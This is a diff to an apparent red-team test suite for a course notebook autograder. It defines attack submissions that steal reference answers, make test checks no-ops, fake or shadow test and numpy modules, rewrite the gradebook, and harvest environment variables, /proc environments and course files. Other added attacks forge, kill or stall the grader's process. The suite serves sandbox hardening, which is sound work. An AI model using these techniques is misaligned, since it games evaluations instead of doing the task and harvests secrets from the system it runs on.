@@ -34,8 +34,8 @@ BASES = {e.student: e for e in examples.EXAMPLES if e.assignment == ASSIGNMENT}
 FUNCTIONS = ("initialize_parameters", "initialize_parameters_deep", "linear_forward",
              "linear_activation_forward", "L_model_forward", "compute_cost", "linear_backward",
              "linear_activation_backward", "L_model_backward", "update_parameters")
-# Which coming change is expected to close an attack that the sandbox alone does not.
-CROSS_CHECK = "cross-check"
+# What closes an attack that the sandbox alone does not.
+GRADER = "the grader outside the kernel"
 SANITIZING = "sanitizing"
 
 
@@ -53,7 +53,7 @@ class Attack:
     files: dict = field(default_factory=dict)  # path in the submission -> text
     links: dict = field(default_factory=dict)  # name in the submission -> link target
     faked: tuple = ()  # functions that must get 0 whatever the base earns
-    closed_by: str = ""  # CROSS_CHECK or SANITIZING when the sandbox alone does not stop it
+    closed_by: str = ""  # GRADER or SANITIZING when the sandbox alone does not stop it
 
     @property
     def marker(self):
@@ -151,11 +151,17 @@ print(_M, "detached a gradebook writer")
 '''
 
 # Defines `_steal(name)`: exec the reference answer of `name` from whichever file it can
-# read (a source notebook, or the reference cells exported for the hidden tests), then
-# steals the first function. `@CANDIDATES@` is an expression giving the files to try.
+# read (a source notebook, or reference cells exported where an older grader kept them),
+# then steals the first function. `@CANDIDATES@` is an expression giving the files to try.
 STEAL = '''# GRADED FUNCTION: initialize_parameters
 import glob as _glob, json as _json, os as _os, pathlib as _pathlib
 _M = "@MARKER@"
+
+def _package_folder():
+    try:
+        return _pathlib.Path(__import__("dnncourse").__file__).parents[1]
+    except ImportError:
+        return _pathlib.Path("/nonexistent")
 
 def _candidates():
     return @CANDIDATES@
@@ -183,8 +189,7 @@ _steal("initialize_parameters")
 SOURCE_ON_DISK = '''[f for pattern in [
         "../../../source/step_by_step/*.ipynb", "@COURSE@/source/step_by_step/*.ipynb",
         *[str(p / "source/step_by_step/*.ipynb") for p in _pathlib.Path.cwd().parents],
-        str(_pathlib.Path(__import__("dnncourse").__file__).parents[1]
-            / "source/step_by_step/*.ipynb")]
+        str(_package_folder() / "source/step_by_step/*.ipynb")]
         for f in _glob.glob(pattern)]'''
 EXPORTED_REFERENCE = ('[_os.path.join(_os.environ.get("DNN_COURSE_REFERENCE", "/nonexistent"),'
                       ' "step_by_step.json")]')
@@ -203,9 +208,9 @@ def borrowing():
     cells = {name: f"# GRADED FUNCTION: {name}\n{name} = _ref.{name}\n" for name in FUNCTIONS}
     cells[FUNCTIONS[0]] = (
         "# GRADED FUNCTION: initialize_parameters\n"
+        'print("@MARKER@ loads the reference module")\n'
         "from dnncourse.grader import reference as _reference\n"
         '_ref = _reference.load("step_by_step")\n'
-        'print("@MARKER@ loaded the reference module")\n'
         "initialize_parameters = _ref.initialize_parameters\n")
     return cells
 
@@ -264,26 +269,25 @@ print("@MARKER@ numpy agrees with everything")
 '''
 
 PATCH_TEST_HELPERS = '''
-import public_tests as _public, test_utils as _utils
-from dnncourse import hidden as _hidden
-from dnncourse.hidden import step_by_step as _hidden_tests
-from dnncourse.shipped import test_utils as _shipped
+import sys as _sys
 
 def _nothing(*args, **kwargs):
     return None
 
-for _module in (_public, _utils, _hidden, _hidden_tests, _shipped):
-    for _name in list(vars(_module)):
-        if _name.startswith("check_") or _name.endswith("_test"):
-            setattr(_module, _name, _nothing)
+for _module in list(_sys.modules.values()):
+    if getattr(_module, "__name__", "").split(".")[0] in ("public_tests", "test_utils",
+                                                         "dnncourse"):
+        for _name in list(vars(_module)):
+            if _name.startswith(("check_", "run_", "call")) or _name.endswith("_test"):
+                setattr(_module, _name, _nothing)
 print("@MARKER@ every check is a no-op")
 '''
 
 INPUT_TRANSFORMER = '''
 def _empty_tests(lines):
-    # every test cell starts with an "Autograded" docstring; hidden tests use `hidden.`
+    # every test cell starts with an "Autograded" docstring
     text = "".join(lines)
-    return ["pass\\n"] if "Autograded" in text or "hidden" in text else lines
+    return ["pass\\n"] if "Autograded" in text else lines
 
 get_ipython().input_transformers_cleanup.append(_empty_tests)
 print("@MARKER@ test cells will be emptied")
@@ -524,7 +528,7 @@ print("@MARKER@ numpy from", _numpy.__file__, "allclose patched:",
       _numpy.allclose(0, 1), "sitecustomize:", "sitecustomize" in _sys.modules)
 '''
 # Test helpers that pass whatever they are given, shipped next to the notebook, also as
-# a `dnncourse` package standing in for the hidden tests.
+# a `dnncourse` package standing in for the grader.
 YES_MODULE = '''"""@MARKER@: every attribute is a test that passes."""
 
 
@@ -542,20 +546,15 @@ print("@MARKER@ public_tests from", _public.__file__)
 
 SYS_MODULES = '''
 import sys as _sys, types as _types
-import dnncourse.hidden as _hidden_package
 
 class _Yes(_types.ModuleType):
     def __getattr__(self, name):
         if name.startswith("__"):
             raise AttributeError(name)
-        if name == "isolated":
-            return lambda function, *args, **kwargs: function
         return lambda *args, **kwargs: None
 
-_fake = _Yes("dnncourse.hidden.step_by_step")
-_sys.modules["dnncourse.hidden.step_by_step"] = _fake
-_hidden_package.step_by_step = _fake
-_sys.modules["public_tests"] = _Yes("public_tests")
+for _name in ("public_tests", "test_utils", "dnncourse", "dnncourse.grader"):
+    _sys.modules[_name] = _Yes(_name)
 tests = _Yes("public_tests")
 print("@MARKER@ fake test modules in sys.modules")
 '''
@@ -676,6 +675,136 @@ print(_M, "grader processes seen:", sorted(set(_seen)), "written:", _done)
 '''
 
 
+# Defines `_collect()`: everything secret the code can find, as text. It reads the course's
+# files where they would be (the source notebooks, the catalogues with the hidden cases,
+# the course package) by absolute and relative paths, every file on sys.path and in the
+# folders above its own, the environment, /proc (command lines, environments, mounts),
+# the objects the garbage collector knows, and tries to import the grader. Bounded in
+# files, bytes and seconds, so it also ends in the grader's own process.
+COLLECT = """
+import gc as _gc, glob as _glob, os as _os, pathlib as _pathlib, sys as _sys, time as _time
+
+def _collect():
+    found, seen, start = [], set(), _time.monotonic()
+
+    def read(path):
+        if path in seen or len(seen) > 4000 or _time.monotonic() - start > 8:
+            return
+        seen.add(path)
+        try:
+            with open(path, "rb") as handle:
+                found.append(f"== {path}\\n" + handle.read(100_000).decode(errors="replace"))
+        except OSError:
+            pass
+
+    roots = ["@COURSE@", *[str(p) for p in _pathlib.Path.cwd().resolve().parents]]
+    for root in roots:
+        for pattern in ("catalogue/*/*.py", "source/*/*.ipynb", "source/*/*.py",
+                        "dnncourse/*.py", "dnncourse/*/*.py", "*.py", "*.db"):
+            for path in _glob.glob(_os.path.join(root, pattern)):
+                read(path)
+    for entry in _sys.path:
+        for path in _glob.glob(_os.path.join(entry or ".", "*.py")):
+            read(path)
+        for path in _glob.glob(_os.path.join(entry or ".", "*", "*.py"))[:400]:
+            if "dnncourse" in path or "catalogue" in path:
+                read(path)
+    for path in ("/proc/self/mountinfo", "/proc/self/environ", "/proc/self/cmdline",
+                 *_glob.glob("/proc/[0-9]*/cmdline"), *_glob.glob("/proc/[0-9]*/environ")):
+        read(path)
+    found.append("== environment\\n" + "\\n".join(f"{k}={v}" for k, v in _os.environ.items()))
+    for name in ("dnncourse", "dnncourse.grader.reference", "catalogue.step_by_step.hidden"):
+        try:
+            module = __import__(name)
+            found.append(f"== imported {name} from {getattr(module, '__file__', '?')}")
+        except Exception as exc:
+            found.append(f"== no {name}: {type(exc).__name__}")
+    names = sorted({getattr(o, "__qualname__", "?") + " " + str(getattr(o, "__module__", ""))
+                    for o in _gc.get_objects() if callable(o)})[:3000]
+    found.append("== objects\\n" + "\\n".join(names))
+    return "\\n".join(found)
+
+print("@MARKER@ collected", len(_collect()), "characters")
+"""
+PRINT_FOUND = COLLECT + "\nprint(_collect())\n"
+RAISE_FOUND = COLLECT + "\nraise RuntimeError(_collect()[:50_000])\n"
+WRITE_FOUND = COLLECT + """
+for _name in ("found.txt", "/tmp/found-@MARKER@.txt"):
+    try:
+        with open(_name, "w") as _handle:
+            _handle.write(_collect())
+        print("@MARKER@ wrote", _name)
+    except OSError:
+        pass
+"""
+DISPLAY_FOUND = COLLECT + """
+import base64 as _base64, html as _html, io as _io
+from IPython.display import HTML as _HTML, Image as _Image, display as _display
+from PIL import Image as _PILImage, PngImagePlugin as _Png
+_text = _collect()
+_display(_HTML("<pre>" + _html.escape(_text[:200_000]) + "</pre>"))
+_info = _Png.PngInfo()
+_info.add_text("found", _text[:200_000])
+_buffer = _io.BytesIO()
+_PILImage.new("RGB", (8, 8)).save(_buffer, "PNG", pnginfo=_info)
+_display(_Image(data=_buffer.getvalue()))
+"""
+
+
+def _in_grader(body):
+    """Code that runs `body` only in the grader's own process (it has DNN_GRADER_OUT)."""
+    return ("import os as _os, signal as _signal, sys as _sys\n"
+            'if _os.environ.get("DNN_GRADER_OUT"):\n'
+            + "".join(f"    {line}\n" for line in body.strip().splitlines()))
+
+
+# The last graded function sends the grader answers of its own: a result for the running
+# call (its id read from the grader's frames), a second result and garbage.
+FORGED_UPDATE = """# GRADED FUNCTION: update_parameters
+import json as _json, struct as _struct
+
+def _forge():
+""" + "".join("    " + line + "\n" for line in _in_grader("""
+frame, ident = _sys._getframe(), None
+while frame is not None and ident is None:
+    request = frame.f_locals.get("request")
+    ident = request.get("id") if isinstance(request, dict) else None
+    frame = frame.f_back
+for message in ({"op": "result", "id": ident, "value": ["d", []], "arrays": []},
+                {"op": "result", "id": ident, "value": ["n"], "arrays": []}):
+    header = _json.dumps(message).encode()
+    _os.write(int(_os.environ["DNN_GRADER_OUT"]), _struct.pack("<QQ", len(header), 0) + header)
+_os.write(int(_os.environ["DNN_GRADER_OUT"]), b"garbage" * 64)
+""").splitlines()) + """
+def update_parameters(params, grads, learning_rate):
+    _forge()
+    return {key: value * 0 for key, value in params.items()}
+
+print("@MARKER@ forges the grader's answers")
+"""
+KILLS_GRADER = """# GRADED FUNCTION: linear_backward
+
+def linear_backward(dZ, cache):
+""" + "".join("    " + line + "\n" for line in _in_grader(
+    "_os.kill(_os.getpid(), _signal.SIGKILL)").splitlines()) + """    A_prev, W, b = cache
+    m = A_prev.shape[1]
+    return np.dot(W.T, dZ), np.dot(dZ, A_prev.T) / m, np.sum(dZ, axis=1, keepdims=True) / m
+
+print("@MARKER@ kills the grader's process")
+"""
+IGNORES_ALARM = """# GRADED FUNCTION: compute_cost
+
+def compute_cost(AL, Y):
+""" + "".join("    " + line + "\n" for line in _in_grader(
+    "_signal.signal(_signal.SIGALRM, _signal.SIG_IGN)\nwhile True:\n    pass").splitlines()) \
+    + """    m = Y.shape[1]
+    cost = -(np.dot(Y, np.log(AL).T) + np.dot(1 - Y, np.log(1 - AL).T)) / m
+    return np.squeeze(cost)
+
+print("@MARKER@ ignores the grader's alarm")
+"""
+
+
 ATTACKS = (
     Attack("gradebook_rewrite", "sets every grade to 1000 in gradebook.db, from the kernel "
            "and from a detached process that keeps trying", base="untouched",
@@ -683,11 +812,12 @@ ATTACKS = (
     Attack("reads_source_notebook", "execs the reference answers from the source notebook, "
            "found by relative and absolute paths", base="untouched",
            answers=stealing(SOURCE_ON_DISK), faked=FUNCTIONS),
-    Attack("reads_exported_reference", "execs the reference answers exported for the hidden "
-           "tests (DNN_COURSE_REFERENCE)", base="untouched",
-           answers=stealing(EXPORTED_REFERENCE), faked=FUNCTIONS, closed_by=CROSS_CHECK),
-    Attack("imports_reference_module", "takes every function from dnncourse.grader.reference.load",
-           base="untouched", answers=borrowing(), faked=FUNCTIONS, closed_by=CROSS_CHECK),
+    Attack("reads_exported_reference", "execs the reference answers from where an older "
+           "grader exported them for the kernel (DNN_COURSE_REFERENCE)", base="untouched",
+           answers=stealing(EXPORTED_REFERENCE), faked=FUNCTIONS),
+    Attack("imports_reference_module", "takes every function from "
+           "dnncourse.grader.reference.load", base="untouched", answers=borrowing(),
+           faked=FUNCTIONS),
     Attack("symlink_to_source", "links to the source notebook in the submission (absolute "
            "and relative) and execs the reference answers from them", base="untouched",
            answers=stealing(LINKED_FILES), faked=FUNCTIONS, closed_by=SANITIZING,
@@ -698,27 +828,27 @@ ATTACKS = (
            append={"linear_forward": WRITE_COURSE_FILES}),
     Attack("patches_numpy", "typical mistakes; np.allclose, np.isclose, np.linalg.norm and "
            "np.testing patched to agree", base="typical_mistakes",
-           append={"initialize_parameters": PATCH_NUMPY}, closed_by=CROSS_CHECK),
+           append={"initialize_parameters": PATCH_NUMPY}, closed_by=GRADER),
     Attack("patches_test_helpers", "typical mistakes; every check_* and *_test of "
-           "test_utils, public_tests and the hidden tests made a no-op",
+           "test_utils and public_tests (and any dnncourse module) made a no-op",
            base="typical_mistakes", append={"initialize_parameters": PATCH_TEST_HELPERS},
-           closed_by=CROSS_CHECK),
+           closed_by=GRADER),
     Attack("input_transformer", "nothing implemented; an IPython input transformer empties "
            "every later test cell", base="untouched",
-           append={"initialize_parameters": INPUT_TRANSFORMER}, closed_by=CROSS_CHECK),
+           append={"initialize_parameters": INPUT_TRANSFORMER}, closed_by=GRADER),
     Attack("custom_exception_handler", "nothing implemented; a custom exception handler "
            "swallows every error", base="untouched",
-           append={"initialize_parameters": EXCEPTION_HANDLER}, closed_by=CROSS_CHECK),
+           append={"initialize_parameters": EXCEPTION_HANDLER}, closed_by=GRADER),
     Attack("lying_ndarray", "every function returns an ndarray subclass lying in __eq__, "
            "shape, ndim, dtype and __array_function__", base="untouched",
-           answers=lying("ndarray_subclass"), faked=FUNCTIONS, closed_by=CROSS_CHECK),
+           answers=lying("ndarray_subclass"), faked=FUNCTIONS, closed_by=GRADER),
     Attack("lying_impostor", "every function returns an object that is no array but claims "
            "__class__ ndarray and lies like lying_ndarray", base="untouched",
-           answers=lying("impostor"), faked=FUNCTIONS, closed_by=CROSS_CHECK),
+           answers=lying("impostor"), faked=FUNCTIONS, closed_by=GRADER),
     Attack("hardcoded_outputs", "five functions return the published expected outputs as "
            "constants; the other five are correct", answers=hard_coded(),
            faked=("initialize_parameters", "initialize_parameters_deep", "linear_forward",
-                  "compute_cost", "update_parameters"), closed_by=CROSS_CHECK),
+                  "compute_cost", "update_parameters"), closed_by=GRADER),
     Attack("shadows_numpy", "typical mistakes; a numpy.py next to the notebook that agrees "
            "with everything", base="typical_mistakes",
            files={"numpy.py": SHADOW_NUMPY}, append={"initialize_parameters": SHOW_NUMPY}),
@@ -730,12 +860,12 @@ ATTACKS = (
     Attack("ships_test_files", "nothing implemented; ships public_tests.py, test_utils.py and "
            "a dnncourse package whose tests all pass", base="untouched",
            files={"public_tests.py": YES_MODULE, "test_utils.py": YES_MODULE,
-                  "dnncourse/__init__.py": "", "dnncourse/hidden/__init__.py": YES_MODULE,
-                  "dnncourse/hidden/step_by_step.py": YES_MODULE},
+                  "dnncourse/__init__.py": "", "dnncourse/grader/__init__.py": YES_MODULE,
+                  "dnncourse/grader/reference.py": YES_MODULE},
            append={"initialize_parameters": SHOW_TEST_MODULES}),
-    Attack("sys_modules_fakes", "nothing implemented; fake public_tests and hidden test "
-           "modules in sys.modules, `tests` rebound", base="untouched",
-           append={"initialize_parameters": SYS_MODULES}, closed_by=CROSS_CHECK),
+    Attack("sys_modules_fakes", "nothing implemented; fake public_tests, test_utils and "
+           "dnncourse modules in sys.modules, `tests` rebound", base="untouched",
+           append={"initialize_parameters": SYS_MODULES}, closed_by=GRADER),
     Attack("inflated_metadata", "correct answers; every test cell claims 100 points, an "
            "answer cell is made a grade cell, and a grade cell of its own worth 50",
            append={"compute_cost": 'print("@MARKER@ claims 1,150 points")'},
@@ -756,4 +886,25 @@ ATTACKS = (
     Attack("reads_grader_proc", "correct answers; looks for the grader in /proc and writes "
            "to the gradebook through /proc/<pid>/cwd and /root",
            append={"update_parameters": GRADER_PROC}),
+    # What the kernel can read, shown every way a student could get it back.
+    Attack("prints_what_it_reads", "nothing implemented; prints every file, variable, process "
+           "and object it can find", base="untouched",
+           append={"initialize_parameters": PRINT_FOUND}),
+    Attack("raises_what_it_reads", "nothing implemented; raises an exception carrying what "
+           "it can find", base="untouched", append={"initialize_parameters": RAISE_FOUND}),
+    Attack("writes_what_it_reads", "nothing implemented; writes what it can find into a file "
+           "next to its notebook", base="untouched", append={"linear_forward": WRITE_FOUND}),
+    Attack("displays_what_it_reads", "nothing implemented; shows what it can find as HTML and "
+           "inside an image", base="untouched", append={"compute_cost": DISPLAY_FOUND}),
+    # Attacks on the grader's own process, which runs the answer cells outside the kernel.
+    Attack("forges_grader_answers", "correct answers but update_parameters, which writes "
+           "forged results and garbage to the grader's pipe",
+           answers={"update_parameters": FORGED_UPDATE}, faked=("update_parameters",),
+           closed_by=GRADER),
+    Attack("kills_grader_process", "correct answers; linear_backward kills the grader's "
+           "process it runs in", answers={"linear_backward": KILLS_GRADER},
+           faked=("linear_backward",), closed_by=GRADER),
+    Attack("ignores_grader_alarm", "correct answers; compute_cost ignores the grader's alarm "
+           "and loops", answers={"compute_cost": IGNORES_ALARM}, faked=("compute_cost",),
+           closed_by=GRADER),
 )
